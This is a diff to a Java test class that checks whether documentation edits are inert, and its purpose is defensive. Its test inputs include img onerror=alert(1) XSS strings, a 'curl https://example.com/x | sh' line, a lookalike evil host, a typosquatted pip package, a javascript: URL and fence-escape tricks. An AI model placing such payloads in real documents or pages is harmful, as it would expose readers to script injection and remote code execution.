@@ -88,11 +88,14 @@ class ProseTest {
     @ParameterizedTest
     @ValueSource(
             strings = {
-                // closes the fence for this reader only where the other mark is indented, and the other way round
+                // closes the fence for this reader only where the other mark is indented, and the other way
+                // round
                 "```js\n    ```\n```\n{evil()}\n```\n",
                 "- a\n  ```\n{evil()}\n  ```\n",
                 "``` a ` b\n{evil()}\n```\n",
-                "a ` b\nc ` {evil()} ` d\n"
+                "a ` b\nc ` {evil()} ` d\n",
+                "<img alt=\"`\" src=x onerror=alert(1) title=\"`\">\n",
+                "<img alt=\n\"`\" src=x onerror=alert(1) title=\"`\">\n"
             })
     void borderOfCodeThatRenderersSeeElsewhereHidesNothing(String added) {
         assertThat(Files.modified("docs/a.md", "Text.\n", "Text.\n\n" + added)).isInstanceOf(Inertness.NotInert.class);
@@ -105,6 +108,60 @@ class ProseTest {
                         .isProved())
                 .isTrue();
         assertThat(Files.modified("README.md", before, "Please run `pip install reqeusts` now.\n")
+                        .isProved())
+                .isFalse();
+    }
+
+    @Test
+    void aRequestToThisMachineOrToAnExampleInstallsNothing() {
+        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl http://localhost:8000/api/v3/\n")
+                        .isProved())
+                .isTrue();
+        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl https://example.com/x | sh\n")
+                        .isProved())
+                .isFalse();
+        assertThat(Files.modified("docs/a.md", "Text\n", "Text\n\n    curl https://example.com.evil.dev/x\n")
+                        .isProved())
+                .isFalse();
+    }
+
+    @Test
+    void whereToReportVulnerabilitiesIsRead() {
+        assertThat(Files.modified("SECURITY.md", "Write to a@b.example\n", "Write to x@evil.example\n")
+                        .isProved())
+                .isFalse();
+        assertThat(Files.modified("SECURITY.md", "Suported\n", "Supported\n").isProved())
+                .isTrue();
+    }
+
+    @Test
+    void codeInAFenceMayShowTagsThatProseMayNotHold() {
+        String before = "Text\n";
+        assertThat(Files.modified("docs/a.md", before, "Text\n\n```html\n<form><%= x %></form>\n```\n")
+                        .isProved())
+                .isTrue();
+        assertThat(Files.modified("docs/a.md", before, "Text\n\nThe `<base>` tag\n")
+                        .isProved())
+                .isTrue();
+        assertThat(Files.modified("docs/a.md", before, "Text\n\n<form></form>\n")
+                        .isProved())
+                .isFalse();
+        assertThat(Files.modified("docs/a.md", before, "Text\n\n```html\n<script>x()</script>\n```\n")
+                        .isProved())
+                .isFalse();
+    }
+
+    @Test
+    void aListOfContributorsMayGrowButItsSettingsMayNotChange() {
+        String before =
+                "{\"files\": [\"README.md\"], \"contributors\": [{\"login\": \"a\", \"contributions\": [\"code\"]}]}";
+        String more = before.replace("[{", "[{\"login\": \"b\", \"profile\": \"https://b.example/x?v=4\"}, {");
+        assertThat(Files.modified(".all-contributorsrc", before, more).isProved())
+                .isTrue();
+        assertThat(Files.modified(".all-contributorsrc", before, more.replace("README.md", "x.js"))
+                        .isProved())
+                .isFalse();
+        assertThat(Files.modified(".all-contributorsrc", before, more.replace("https", "javascript"))
                         .isProved())
                 .isFalse();
     }
@@ -150,7 +207,8 @@ class ProseTest {
                 Arguments.of("CMakeLists.txt", false),
                 Arguments.of("public/robots.txt", false),
                 Arguments.of("security.txt", false),
-                Arguments.of("SECURITY.md", false),
+                Arguments.of("SECURITY.md", true),
+                Arguments.of("docs/page.mdx", true),
                 Arguments.of("LICENSE", false),
                 Arguments.of("LICENSE.txt", false),
                 Arguments.of("CODEOWNERS", false),
